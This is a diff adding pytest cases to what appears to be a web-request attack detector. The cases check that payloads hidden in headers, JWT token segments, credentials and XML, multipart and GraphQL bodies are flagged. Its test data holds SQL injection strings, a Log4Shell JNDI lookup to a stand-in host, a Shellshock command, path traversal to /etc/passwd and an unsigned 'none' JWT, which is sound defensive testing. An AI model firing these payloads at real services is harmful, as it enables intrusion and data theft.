@@ -6,6 +6,7 @@ import base64
 import gzip
 import json
 import tracemalloc
+from html import escape
 from urllib.parse import quote
 
 import pytest
@@ -440,3 +441,51 @@ def test_cookies_that_were_sent_as_a_name_before() -> None:
         assert said(as_json({mark + cookies: 1})) == []
         assert said(request("/", "", (b"x-note", cookies.encode()))) == []
         assert said(request("/", "", (b"cookie", cookies.encode()))) == ["xss cookie:a"]
+
+
+def test_credentials_that_were_sent_as_something_else_before() -> None:
+    """From a field of credentials more is read than from the same text in another header, a name or the cookies."""
+    user = base64.b64encode(b"x' or 1=1-- :y").decode()
+    for credentials in (f"Basic {user}", f"Bearer eyJhbGciOiJub25lIn0.{_segment({'sub': SQL})}.c2ln"):
+        for name in (b"x-note", b"x-other", b"cookie"):
+            said(request("/", "", (name, credentials.encode())))
+        said(as_json({credentials: 1}))
+        assert said(request("/", "", (b"authorization", credentials.encode()))) != []
+
+
+def _segment(claims: object) -> str:
+    return base64.urlsafe_b64encode(json.dumps(claims).encode()).decode().rstrip("=")
+
+
+@every
+def test_in_a_part_of_a_token(attack: str) -> None:
+    head, honest = _segment({"alg": "HS256", "kid": "1"}), _segment({"sub": "jo"})
+    for token in (
+        f"{_segment({'alg': 'HS256', 'kid': attack})}.{honest}.c2ln",
+        f"{head}.{_segment({'sub': attack})}.c2ln",
+    ):
+        assert said(request("/", "", (b"authorization", f"Bearer {token}".encode()))) != []
+        assert said(request("/", "", (b"cookie", f"a=b; session={token}".encode()))) != []
+        assert said(query(token)) != []
+        assert said(as_json({"token": token})) != []
+    assert said(request("/", "", (b"authorization", f"Bearer {head}.{honest}.c2ln".encode()))) == []
+
+
+@pytest.mark.parametrize("attack", ["1 or 1=1", "|| ", "http://0x7f.1/", "' or 1=1--"])
+def test_in_a_piece_of_a_text(attack: str) -> None:
+    """What only counts as a whole value is a whole value there."""
+    assert said(post(f"<a><b>{escape(attack)}</b></a>", "application/xml")) != []
+    assert (
+        said(post(f"--b\r\nContent-Type: text/plain\r\n\r\n{attack}\r\n--b--\r\n", "multipart/mixed; boundary=b")) != []
+    )
+    form = f'--X\r\nContent-Disposition: form-data; name="a"; filename=""\r\n\r\n{attack}\r\n--X--\r\n'
+    assert said(post(form, "multipart/form-data; boundary=X")) != []
+    assert said(post(json.dumps({"query": f"query {{ user(id: {json.dumps(attack)}) {{ name }} }}"}))) != []
+
+
+@pytest.mark.parametrize("name", ["accept", "x-request-id", "sec-ch-ua", "connection"])
+def test_in_a_header_nobody_reads(name: str) -> None:
+    for attack in ("${jndi:ldap://evil.example/a}", "() { :;}; /bin/id"):
+        assert said(request("/", "", (name.encode(), attack.encode()))) != []
+    for attack in ("' or 1=1--", "../../../etc/passwd{{") if name in ("accept", "x-request-id") else ():
+        assert said(request("/", "", (name.encode(), attack.encode()))) != []
